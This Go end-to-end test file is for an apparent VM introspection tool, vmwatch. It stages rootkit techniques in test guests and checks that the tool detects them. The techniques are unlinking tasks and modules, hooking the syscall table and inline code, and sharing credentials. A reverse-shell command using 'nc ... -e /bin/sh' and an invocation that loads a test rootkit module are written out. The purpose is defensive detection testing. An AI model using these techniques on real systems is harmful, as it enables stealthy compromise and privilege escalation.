package e2e

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vmwatch/vmwatch/detect"
	"github.com/vmwatch/vmwatch/linux"
	"github.com/vmwatch/vmwatch/target"
	"github.com/vmwatch/vmwatch/testvm"
	"golang.org/x/arch/x86/x86asm"
)

// attackFiles are built once per kernel: the test rootkit and the static
// userland helpers.
var attackBuild sync.Map // series -> map[string][]byte or error

func attackFiles(t *testing.T, k *testvm.Kernel) map[string][]byte {
	if v, ok := attackBuild.Load(k.Series); ok {
		if err, ok := v.(error); ok {
			t.Fatal(err)
		}
		return v.(map[string][]byte)
	}
	files := map[string][]byte{}
	dir := t.TempDir()
	ko, err := k.BuildModule("../attacks/rootkit", filepath.Join(dir, "rootkit"), "vmw_rootkit")
	if err != nil {
		attackBuild.Store(k.Series, err)
		t.Fatal(err)
	}
	b, _ := os.ReadFile(ko)
	files["/opt/vmw_rootkit.ko"] = b
	for _, h := range []string{"fakekthread", "memfdexec"} {
		out := filepath.Join(dir, h)
		if err := testvm.BuildStatic("../attacks/helpers/"+h+".c", out); err != nil {
			attackBuild.Store(k.Series, err)
			t.Fatal(err)
		}
		b, _ := os.ReadFile(out)
		files["/opt/"+h] = b
	}
	attackBuild.Store(k.Series, files)
	return files
}

// attackInit starts the targets: a process run by an unprivileged user
// (whose parent is unprivileged too) for the credential attack.
const attackInit = `printf 'root:x:0:0::/root:/bin/sh\ntest:x:1000:1000::/tmp:/bin/sh\n' > /etc/passwd
printf 'root:x:0:\ntest:x:1000:\n' > /etc/group
su test -c 'sleep 1000003 & wait' &`

func attackGuest(t *testing.T, series, kind string) *testvm.VM {
	return guest(t, "attack-"+kind+"-"+series, func(k *testvm.Kernel) testvm.Config {
		return testvm.Config{
			MemFile:   fmt.Sprintf("/dev/shm/vmwatch-e2e-%d-attack-%s-%s", os.Getpid(), kind, series),
			Files:     attackFiles(t, k),
			InitExtra: attackInit,
		}
	}, series)
}

// check runs vmwatch check and returns its findings.
func check(t *testing.T, vm *testvm.VM, extra ...string) []detect.Finding {
	t.Helper()
	args := append([]string{"check", "-o", "json", "-t", "qmp:" + vm.QMPPath}, extra...)
	out, stderr, err := vmwatchRun(args...)
	if err != nil && exitCode(err) != 1 {
		t.Fatalf("vmwatch check: %v: %s", err, stderr)
	}
	if len(stderr) > 0 {
		t.Logf("vmwatch check: %s", stderr)
	}
	var fs []detect.Finding
	if err := json.Unmarshal(out, &fs); err != nil {
		t.Fatalf("check output: %v\n%s", err, out)
	}
	return fs
}

// expectFindings asserts that every id in want is found with the evidence
// match accepts, and that no other finding is high or critical.
func expectFindings(t *testing.T, fs []detect.Finding, want map[string]func(detect.Finding) bool) {
	t.Helper()
	seen := map[string]bool{}
	for _, f := range fs {
		if ok, listed := want[f.ID]; listed {
			if ok(f) {
				seen[f.ID] = true
			}
			continue
		}
		if f.Severity >= detect.High {
			t.Errorf("unexpected %s finding %s: %s", f.Severity, f.ID, f.Explanation)
		}
	}
	for id := range want {
		if !seen[id] {
			t.Errorf("no %s finding with the right evidence; findings: %s", id, summary(fs))
		}
	}
}

func summary(fs []detect.Finding) string {
	var s []string
	for _, f := range fs {
		b, _ := json.Marshal(f.Evidence)
		s = append(s, fmt.Sprintf("[%s %s %q %s]", f.Severity, f.ID, f.Title, b))
	}
	return strings.Join(s, " ")
}

func expectClean(t *testing.T, fs []detect.Finding) {
	t.Helper()
	for _, f := range fs {
		if f.Severity > detect.Info {
			t.Errorf("clean guest: %s finding %s: %s", f.Severity, f.ID, f.Explanation)
		}
	}
}

func hasPID(pid int64) func(detect.Finding) bool {
	return func(f detect.Finding) bool {
		for _, p := range f.Evidence.PIDs {
			if p == pid {
				return true
			}
		}
		return false
	}
}

// guestPID finds a process in the guest by its command line: exactly,
// or containing the pattern.
func guestPID(t *testing.T, vm *testvm.VM, pattern string) int64 {
	t.Helper()
	out, err := vm.Run("ps -o pid,args")
	if err != nil {
		t.Fatal(err)
	}
	exact := strings.HasPrefix(pattern, "^")
	pattern = strings.Trim(pattern, "^$")
	for _, line := range strings.Split(out, "\n") {
		f := strings.SplitN(strings.TrimSpace(line), " ", 2)
		if len(f) < 2 {
			continue
		}
		args := strings.TrimSpace(f[1])
		if (exact && args == pattern) || (!exact && strings.Contains(args, pattern) && !strings.Contains(args, "ps -o")) {
			if pid, err := strconv.ParseInt(f[0], 10, 64); err == nil {
				return pid
			}
		}
	}
	t.Fatalf("no process %q in the guest:\n%s", pattern, out)
	return 0
}

// memEditor writes guest memory through the guest's memory file, as a
// kernel exploit would write it from inside: test code only.
type memEditor struct {
	t   *testing.T
	vm  *testvm.VM
	k   *linux.Kernel
	tg  *target.Target
	mem *os.File
}

func newMemEditor(t *testing.T, vm *testvm.VM) *memEditor {
	tg, err := target.Open(context.Background(), "memfile:"+vm.MemFile, target.Options{})
	if err != nil {
		t.Fatal(err)
	}
	k, err := linux.Open(tg.Mem, linux.Options{})
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(vm.MemFile, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close(); tg.Close() })
	return &memEditor{t: t, vm: vm, k: k, tg: tg, mem: f}
}

// write stores b at a kernel virtual address (the 512 MiB guest's file
// offset is its physical address) and returns the undo.
func (e *memEditor) write(va uint64, b []byte) func() {
	e.t.Helper()
	e.k.Flush()
	m, err := e.k.AS.Translate(va)
	if err != nil {
		e.t.Fatal(err)
	}
	old := make([]byte, len(b))
	if _, err := e.mem.ReadAt(old, int64(m.Phys)); err != nil {
		e.t.Fatal(err)
	}
	if _, err := e.mem.WriteAt(b, int64(m.Phys)); err != nil {
		e.t.Fatal(err)
	}
	return func() { e.mem.WriteAt(old, int64(m.Phys)) }
}

func (e *memEditor) write64(va, v uint64) func() {
	b := make([]byte, 8)
	binary.LittleEndian.PutUint64(b, v)
	return e.write(va, b)
}

func (e *memEditor) u64(va uint64) uint64 {
	e.k.Flush()
	v, err := e.k.Uint64(va)
	if err != nil {
		e.t.Fatal(err)
	}
	return v
}

// paused runs fn with the guest's vCPUs stopped.
func (e *memEditor) paused(fn func()) {
	if _, err := e.vm.QMP("stop", nil); err != nil {
		e.t.Fatal(err)
	}
	defer e.vm.QMP("cont", nil)
	fn()
}

func (e *memEditor) offset(typ, field string) uint64 {
	st, err := e.k.Types.Struct(typ)
	if err != nil {
		e.t.Fatal(err)
	}
	o, err := st.FieldOffset(field)
	if err != nil {
		e.t.Fatal(err)
	}
	return o
}

// unlink removes a node from a circular list and points it at itself,
// as list_del_init does; it returns the undo.
func (e *memEditor) unlink(node uint64) func() {
	next, prev := e.u64(node), e.u64(node+8)
	undo := []func(){e.write64(prev, next), e.write64(next+8, prev), e.write64(node, node), e.write64(node+8, node)}
	return func() {
		for i := len(undo) - 1; i >= 0; i-- {
			undo[i]()
		}
	}
}

func (e *memEditor) task(pid int64) linux.Process {
	e.k.Flush()
	ps, err := e.k.Processes(linux.PSOptions{NoCmdline: true})
	if err != nil {
		e.t.Fatal(err)
	}
	for _, p := range ps {
		if p.PID == pid {
			return p
		}
	}
	e.t.Fatalf("pid %d not in the task list", pid)
	return linux.Process{}
}

func (e *memEditor) module(name string) linux.Module {
	ms, err := e.k.Modules()
	if err != nil {
		e.t.Fatal(err)
	}
	for _, m := range ms {
		if m.Name == name {
			return m
		}
	}
	e.t.Fatalf("module %s not loaded", name)
	return linux.Module{}
}

// TestAttacksOnMemory: each attack done by writing guest memory (the way a
// kernel exploit would) produces its finding with the right pid, module or
// symbol, and no other high or critical finding; undone, the guest is clean.
func TestAttacksOnMemory(t *testing.T) {
	forEachKernel(t, func(t *testing.T, series string) {
		vm := attackGuest(t, series, "mem")
		e := newMemEditor(t, vm)
		base := filepath.Join(t.TempDir(), "baseline")
		expectClean(t, check(t, vm, "--baseline", base)) // records the baseline
		expectClean(t, check(t, vm, "--baseline", base))

		t.Run("unlink a task", func(t *testing.T) {
			pid := guestPID(t, vm, "sleep 1000002")
			p := e.task(pid)
			var undo func()
			e.paused(func() { undo = e.unlink(uint64(p.Task) + e.offset("task_struct", "tasks")) })
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{"hidden-process": hasPID(pid)})
			e.paused(undo)
			expectClean(t, check(t, vm))
		})
		t.Run("unlink a module", func(t *testing.T) {
			m := e.module("dummy")
			var undo func()
			e.paused(func() { undo = e.unlink(uint64(m.Addr) + e.offset("module", "list")) })
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{"hidden-module": func(f detect.Finding) bool {
				return len(f.Evidence.Modules) == 1 && f.Evidence.Modules[0] == "dummy" && f.Severity == detect.Critical
			}})
			e.paused(undo)
			expectClean(t, check(t, vm))
		})
		t.Run("redirect a system call", func(t *testing.T) {
			table, _ := e.k.Syms.Lookup("sys_call_table")
			m := e.module("dummy")
			var undo func()
			e.paused(func() { undo = e.write64(table+62*8, uint64(m.Base)+0x10) }) // kill(2)
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{"syscall-table-hook": func(f detect.Finding) bool {
				nr, _ := f.Evidence.Details["nr"].(float64)
				return nr == 62 && len(f.Evidence.Modules) == 1 && f.Evidence.Modules[0] == "dummy"
			}})
			e.paused(undo)
			expectClean(t, check(t, vm))
		})
		t.Run("patch kernel code", func(t *testing.T) {
			fn, _ := e.k.Syms.Lookup("__x64_sys_acct") // acct(2): never called in the test guest
			var undo func()
			e.paused(func() { undo = e.write(fn+0x18, []byte{0xcc, 0xcc, 0xcc}) })
			expectFindings(t, check(t, vm, "--baseline", base), map[string]func(detect.Finding) bool{"kernel-code-modified": func(f detect.Finding) bool {
				return len(f.Evidence.Addresses) > 0 && strings.HasPrefix(f.Evidence.Addresses[0].Symbol, "__x64_sys_acct+")
			}})
			e.paused(undo)
			expectClean(t, check(t, vm, "--baseline", base))
		})
		t.Run("baseline of another boot", func(t *testing.T) {
			// recorded on the same kernel booted without KASLR: every
			// relocated address, every %rip-relative per-CPU access and
			// every runtime constant differs, and must not count
			other := guest(t, "nokaslr-"+series, func(k *testvm.Kernel) testvm.Config { return testvm.Config{Cmdline: "nokaslr"} }, series)
			file := filepath.Join(t.TempDir(), "other-boot")
			vmwatch(t, "baseline", "-t", "qmp:"+other.QMPPath, "-f", file)
			var a, b struct {
				TextStart linux.Addr `json:"text_start"`
			}
			vmwatchJSON(t, &a, "info", "-o", "json", "-t", "qmp:"+other.QMPPath)
			vmwatchJSON(t, &b, "info", "-o", "json", "-t", "qmp:"+vm.QMPPath)
			if a.TextStart == 0 || b.TextStart == 0 {
				t.Fatalf("no text_start in vmwatch info: %+v %+v", a, b)
			}
			if a.TextStart == b.TextStart {
				t.Logf("KASLR put both kernels at %v: only the boot-time data differs", a.TextStart)
			}
			expectClean(t, check(t, vm, "--baseline", file))
			fn, _ := e.k.Syms.Lookup("__x64_sys_acct")
			var undo func()
			e.paused(func() { undo = e.write(fn+0x18, []byte{0xcc, 0xcc, 0xcc}) })
			expectFindings(t, check(t, vm, "--baseline", file), map[string]func(detect.Finding) bool{"kernel-code-modified": func(f detect.Finding) bool {
				return len(f.Evidence.Addresses) > 0 && strings.HasPrefix(f.Evidence.Addresses[0].Symbol, "__x64_sys_acct+")
			}})
			e.paused(undo)
			expectClean(t, check(t, vm, "--baseline", file))
		})
		t.Run("inline hook", func(t *testing.T) {
			fn, _ := e.k.Syms.Lookup("__x64_sys_acct")
			// after the ftrace call site: the first instruction the kernel does not patch
			code, err := e.k.AS.Read(fn, 32)
			if err != nil {
				t.Fatal(err)
			}
			sites, _ := e.k.PatchSites()
			at := uint64(0)
			for pc := 0; pc < 24; {
				in, err := linux.DecodeInsn(code[pc:])
				if err != nil {
					t.Fatal(err)
				}
				if !linux.Covered(sites, fn+uint64(pc), uint64(in.Len)) && in.Op != x86asm.NOP && in.Len >= 1 && pc > 0 {
					at = fn + uint64(pc)
					break
				}
				pc += in.Len
			}
			if at == 0 {
				t.Fatal("no instruction to hook")
			}
			m := e.module("dummy")
			jmp := make([]byte, 5)
			jmp[0] = 0xe9
			binary.LittleEndian.PutUint32(jmp[1:], uint32(int32(int64(uint64(m.Base)+0x20)-int64(at+5))))
			var undo func()
			e.paused(func() { undo = e.write(at, jmp) })
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{"inline-hook": func(f detect.Finding) bool {
				return strings.Contains(f.Title, "__x64_sys_acct") && len(f.Evidence.Addresses) > 1 && f.Evidence.Addresses[1].Module == "dummy"
			}})
			e.paused(undo)
			expectClean(t, check(t, vm))
		})
		t.Run("share init's credentials", func(t *testing.T) {
			pid := guestPID(t, vm, "sleep 1000001")
			p, init := e.task(pid), e.task(1)
			credOff, realOff := e.offset("task_struct", "cred"), e.offset("task_struct", "real_cred")
			var undo []func()
			e.paused(func() {
				undo = append(undo, e.write64(uint64(p.Task)+credOff, uint64(init.Cred)), e.write64(uint64(p.Task)+realOff, uint64(init.Cred)))
			})
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{"shared-credentials": func(f detect.Finding) bool {
				return hasPID(pid)(f) && hasPID(1)(f)
			}})
			e.paused(func() { undo[1](); undo[0]() })
			expectClean(t, check(t, vm))
		})
	})
}

// TestAttacksInUserland: attacker behaviour inside the guest produces its
// finding with the right pid.
func TestAttacksInUserland(t *testing.T) {
	forEachKernel(t, func(t *testing.T, series string) {
		vm := attackGuest(t, series, "user")
		expectClean(t, check(t, vm))
		cases := []struct {
			name, start, pattern, id string
			sev                      detect.Severity
			others                   []string // other findings this behaviour may also raise (medium or lower)
		}{
			{"reverse shell", "sleep 1000 | nc -l -p 4444 >/dev/null & sleep 0.3; nc 127.0.0.1 4444 -e /bin/sh &", "^/bin/sh$", "reverse-shell", detect.High, nil},
			{"kernel thread name", "/opt/fakekthread kworker/0:3 &", "fakekthread", "kthread-masquerade", detect.High, nil},
			{"program in a memfd", "/opt/memfdexec /bin/busybox sleep 1000004 &", "sleep 1000004", "fileless-executable", detect.High, nil},
			{"deleted program", "cp /bin/busybox /tmp/sleep && /tmp/sleep 1000005 & sleep 0.3; rm -f /tmp/sleep", "sleep 1000005", "deleted-executable", detect.High, nil},
			{"LD_PRELOAD", "LD_PRELOAD=/tmp/libhide.so sleep 1000006 &", "sleep 1000006", "ld-preload", detect.Medium, nil},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				if _, err := vm.Run(c.start); err != nil {
					t.Fatal(err)
				}
				time.Sleep(300 * time.Millisecond)
				pid := guestPID(t, vm, c.pattern)
				defer vm.Run(fmt.Sprintf("kill %d; kill $(ps -o pid,args | awk '/nc -l -p 4444|sleep 1000$/ {print $1}') 2>/dev/null; true", pid))
				expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{c.id: func(f detect.Finding) bool {
					return hasPID(pid)(f) && f.Severity == c.sev
				}})
			})
		}
	})
}

// TestRootkitModule: a real loadable module, built here against Debian's
// headers for the guest's kernel, hides a process, hides itself, hooks
// kill(2) through ftrace and gives a process root; each shows.
func TestRootkitModule(t *testing.T) {
	forEachKernel(t, func(t *testing.T, series string) {
		vm := attackGuest(t, series, "lkm")
		expectClean(t, check(t, vm))
		hide := guestPID(t, vm, "^sleep 1000002$")
		user := guestPID(t, vm, "^sleep 1000003$")
		out, err := vm.Run(fmt.Sprintf("insmod /opt/vmw_rootkit.ko hide_pid=%d root_pid=%d hook=1 hide_self=1 && grep -c vmw_rootkit /proc/modules; id -u; cat /proc/%d/status | grep Uid", hide, user, user))
		t.Logf("guest: %s", out)
		if err == nil || !strings.Contains(out, "0\n") {
			// grep -c exits 1 when the module hid itself from /proc/modules
			t.Logf("insmod: %v", err)
		}
		if mods, _ := vm.Run("cat /proc/modules"); strings.Contains(mods, "vmw_rootkit") {
			t.Fatalf("the rootkit did not hide itself: %s", mods)
		}
		fs := check(t, vm)
		expectFindings(t, fs, map[string]func(detect.Finding) bool{
			"hidden-process": hasPID(hide),
			"hidden-module": func(f detect.Finding) bool {
				return len(f.Evidence.Modules) == 1 && f.Evidence.Modules[0] == "vmw_rootkit"
			},
			"ftrace-hook": func(f detect.Finding) bool {
				at, _ := f.Evidence.Details["attached_to"].([]any)
				return f.Severity == detect.Critical && len(at) > 0 && fmt.Sprint(at[0]) == "__x64_sys_kill"
			},
			"privilege-escalation": hasPID(user),
		})
		// the physical memory scan finds the hidden task too
		scan := check(t, vm, "--scan", "--only", "hidden-process-scan")
		expectFindings(t, scan, map[string]func(detect.Finding) bool{"hidden-process": func(f detect.Finding) bool {
			return hasPID(hide)(f) && strings.Contains(f.Evidence.Found, "physical memory")
		}})
		ids := map[string]bool{}
		for _, f := range fs {
			ids[f.ID] = true
		}
		var got []string
		for id := range ids {
			got = append(got, id)
		}
		sort.Strings(got)
		t.Logf("findings: %v", got)
	})
}

// TestCleanUnderLoad: clean guests give no finding above info over 20
// checks in a row while processes start and exit all the time.
func TestCleanUnderLoad(t *testing.T) {
	forEachKernel(t, func(t *testing.T, series string) {
		vm := standard(t, series)
		if _, err := vm.Run("(while true; do sleep 0.01 & ls /proc >/dev/null; sh -c 'true'; done) >/dev/null 2>&1 & echo $! > /tmp/churn.pid"); err != nil {
			t.Fatal(err)
		}
		defer vm.Run("kill $(cat /tmp/churn.pid); true")
		for i := 0; i < 20; i++ {
			fs := check(t, vm, "--scan")
			expectClean(t, fs)
			if t.Failed() {
				t.Fatalf("check %d of 20", i+1)
			}
		}
	})
}

// TestYara: YARA signatures match process memory (a marker compiled into
// a helper) and kernel memory (the banner), with pid and address.
func TestYara(t *testing.T) {
	forEachKernel(t, func(t *testing.T, series string) {
		vm := attackGuest(t, series, "user")
		if _, err := vm.Run("/opt/fakekthread marked &"); err != nil {
			t.Fatal(err)
		}
		time.Sleep(300 * time.Millisecond)
		pid := guestPID(t, vm, "/opt/fakekthread marked")
		defer vm.Run(fmt.Sprintf("kill %d", pid))
		fs := check(t, vm, "--only", "yara", "--yara", "testdata/test.yar")
		var proc, kernel bool
		for _, f := range fs {
			rule, _ := f.Evidence.Details["rule"].(string)
			switch {
			case rule == "vmwatch_test_marker" && hasPID(pid)(f) && f.Severity == detect.High:
				proc = true
			case rule == "vmwatch_test_marker":
				t.Errorf("marker found outside the helper: %s", f.Explanation)
			case rule == "linux_banner" && len(f.Evidence.PIDs) == 0 && f.Severity == detect.Info:
				kernel = true
			}
		}
		if !proc || !kernel {
			t.Errorf("process match %v, kernel match %v: %s", proc, kernel, summary(fs))
		}
	})
}
